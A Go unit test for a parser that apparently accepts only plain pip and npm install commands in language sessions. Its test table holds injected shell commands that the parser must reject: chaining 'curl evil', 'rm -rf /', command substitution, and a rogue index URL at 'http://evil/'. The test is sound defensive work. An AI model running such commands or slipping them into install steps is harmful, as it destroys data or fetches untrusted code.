package packages

import (
	"reflect"
	"testing"
)

func TestParseCommand(t *testing.T) {
	// The manager of each language's sessions (runtimes' PackageManager).
	managers := map[string]string{"python": Pip, "javascript": Npm, "bash": ""}
	for _, c := range []struct {
		lang, line string
		want       *Command
	}{
		{"python", "pip install requests", &Command{"pip", []string{"requests"}}},
		{"python", "  pip3 install -q requests==2.31.0 numpy>=1  ", nil}, // > is a redirection in a shell
		{"python", "pip3 install -q requests==2.31.0 pandas[excel]", &Command{"pip", []string{"requests==2.31.0", "pandas[excel]"}}},
		{"python", "python3 -m pip install --upgrade airlock-demo", &Command{"pip", []string{"airlock-demo"}}},
		{"python", "pip install", nil},
		{"python", "pip install -r requirements.txt", nil},
		{"python", "pip install --index-url http://evil/ x", nil},
		{"python", "pip install ./pkg", nil},
		{"python", "pip install dist/x-1.0-py3-none-any.whl", nil},
		{"python", "pip install x && curl evil", nil},
		{"python", "pip install x; rm -rf /", nil},
		{"python", "pip install $(cat names)", nil},
		{"python", "pip install 'x @ http://e/x.whl'", nil},
		{"python", "pip list", nil},
		{"python", "npm install lodash", nil}, // npm in a Python session: the shell's
		{"javascript", "npm install lodash@4.17.21 @types/node", &Command{"npm", []string{"lodash@4.17.21", "@types/node"}}},
		{"javascript", "npm i --save left-pad", &Command{"npm", []string{"left-pad"}}},
		{"javascript", "npm install ../local", nil},
		{"javascript", "npm install git+https://x/y.git", nil},
		{"javascript", "npm install a/b/c", nil},
		{"javascript", "pip install requests", nil},
		{"bash", "pip install requests", nil},
	} {
		got, ok := ParseCommand(managers[c.lang], c.line)
		if (c.want == nil) != !ok || (ok && !reflect.DeepEqual(got, *c.want)) {
			t.Errorf("ParseCommand(%q, %q) = %+v %v, want %+v", managers[c.lang], c.line, got, ok, c.want)
		}
	}
}
